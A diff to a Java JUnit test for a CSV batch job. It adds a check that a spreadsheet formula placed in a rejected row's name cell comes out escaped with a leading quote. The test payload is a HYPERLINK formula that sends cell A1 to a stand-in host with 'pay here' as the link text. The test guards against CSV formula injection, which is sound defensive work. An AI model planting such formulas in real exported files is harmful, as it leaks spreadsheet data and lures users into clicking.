@@ -24,10 +24,14 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** The CSV batch end to end on a small generated portfolio with a bad row and an invalid one, then interrupted and resumed. */
+/**
+ * The CSV batch end to end on a small generated portfolio with a bad row and an invalid one (named with a formula),
+ * then interrupted and resumed.
+ */
 class FileBatchTest {
     private static final int ACCOUNTS = 400;
     private static InProcessDecider decider;
+    private static final String FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1;\"pay here\")";
     private static final PrintStream QUIET = new PrintStream(PrintStream.nullOutputStream());
     @TempDir
     Path dir;
@@ -51,6 +55,7 @@ class FileBatchTest {
         assertThat(column(rejects(out), "line")).containsExactly("12", "103");
         assertThat(column(rejects(out), "reason").get(0)).startsWith("expected 35 columns");
         assertThat(column(rejects(out), "reason").get(1)).startsWith("invalid: account.id:");
+        assertThat(cell(rejects(out), 2, "name")).as("text in a spreadsheet, not a formula").isEqualTo("'" + FORMULA);
         assertThat(BatchFiles.checkpointOf(out)).doesNotExist();
     }
 
@@ -114,11 +119,12 @@ class FileBatchTest {
         return in;
     }
 
-    /** The row of {@code line} with its accountId cell emptied and its requestId marked. */
+    /** The row of {@code line} with its accountId cell emptied, its requestId marked and a formula for a name. */
     private static String[] withoutAccountId(String line) throws IOException {
         String[] cells = new RFC4180ParserBuilder().build().parseLine(line);
         cells[PortfolioCsv.HEADER.indexOf("requestId")] += "-no-id";
         cells[PortfolioCsv.HEADER.indexOf("accountId")] = "";
+        cells[PortfolioCsv.HEADER.indexOf("name")] = FORMULA;
         return cells;
     }
 
@@ -139,6 +145,14 @@ class FileBatchTest {
             List<String[]> rows = reader.readAll();
             int index = List.of(rows.getFirst()).indexOf(name);
             return rows.stream().skip(1).map(r -> r[index]).toList();
+        }
+    }
+
+    /** The cell of {@code row} (the header is row 0) in the column {@code name}. */
+    private static String cell(Path csv, int row, String name) throws Exception {
+        try (CSVReader reader = new CSVReader(Files.newBufferedReader(csv))) {
+            List<String[]> rows = reader.readAll();
+            return rows.get(row)[List.of(rows.getFirst()).indexOf(name)];
         }
     }
 }
